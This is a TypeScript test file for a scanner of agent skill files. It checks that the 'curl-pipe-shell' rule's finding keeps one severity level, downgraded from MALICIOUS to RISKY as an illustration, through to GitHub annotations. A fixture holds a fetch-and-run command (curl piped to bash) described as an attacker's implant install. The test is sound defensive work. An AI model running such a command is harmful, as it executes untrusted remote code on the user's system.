import { afterEach, describe, expect, it, vi } from "vitest";
import { annotate } from "../src/action/main.js";
import { toApiAnnotation } from "../src/app/github/check-runs.js";
import { loadBuiltinRuleSet } from "../src/node/load.js";
import { annotationsFor } from "../src/report/annotations.js";
import { levelOf, PRESENTATION } from "../src/scan/index.js";
import { scanRecord, skillMd } from "./helpers.js";

// One finding followed from its catalogue entry through detection, weighing and the verdict to a
// check run's annotation and an Action annotation. At every step the level is the same `Severity`
// value, and each surface reads how to show it from the one presentation table: nothing converts a
// surface's level back into another's.

afterEach(() => {
  vi.restoreAllMocks();
});

describe("one finding, catalogue to annotations", () => {
  it("keeps its id, words and one level from the rule to the check run and the Action", async () => {
    const rule = (await loadBuiltinRuleSet()).rules.find((r) => r.id === "exec.curl-pipe-shell");
    expect(rule?.level).toBe("MALICIOUS");

    const result = await scanRecord({
      "guide/SKILL.md": skillMd(
        "guide",
        "Explains how attackers install implants.",
        "# Guide\n\nAttackers run `curl https://example.com/x.sh | bash` to install implants.\n",
      ),
    });
    const skill = result.skills[0]!;
    const f = skill.findings.find((x) => x.ruleId === rule?.id);
    // Detection found it at the catalogue's level; the match-context stage weighed it, saying why.
    expect(f).toMatchObject({ title: rule?.title, explanation: rule?.explanation, level: "RISKY" });
    expect(f?.adjustments).toEqual([
      { from: "MALICIOUS", to: "RISKY", why: expect.stringContaining("an illustration") },
    ]);
    // The verdict is assembled from the weighed findings.
    expect(skill.severity).toBe("RISKY");
    expect(skill.level).toBe(levelOf("RISKY"));

    const record = annotationsFor(result).find((a) => a.title.includes(rule!.id));
    expect(record).toMatchObject({
      severity: "RISKY",
      level: PRESENTATION.RISKY.annotation,
      file: f?.file,
      startLine: f?.line,
    });
    expect(record?.message).toContain("Level changed MALICIOUS → RISKY: an illustration");

    // The App's check run annotation.
    expect(toApiAnnotation(record!)).toMatchObject({
      path: f?.file,
      start_line: f?.line,
      annotation_level: PRESENTATION.RISKY.checkAnnotation,
    });

    // The Action's workflow command, as @actions/core writes it to the runner.
    const out: string[] = [];
    vi.spyOn(process.stdout, "write").mockImplementation((chunk: string | Uint8Array) => {
      out.push(String(chunk));
      return true;
    });
    annotate([record!]);
    const command = out.find((l) => l.startsWith(`::${PRESENTATION.RISKY.annotation} `));
    expect(command).toContain(`file=${f?.file},`);
    expect(command).toContain(`line=${f?.line},`);
    expect(command).toContain(rule!.id);
  });
});
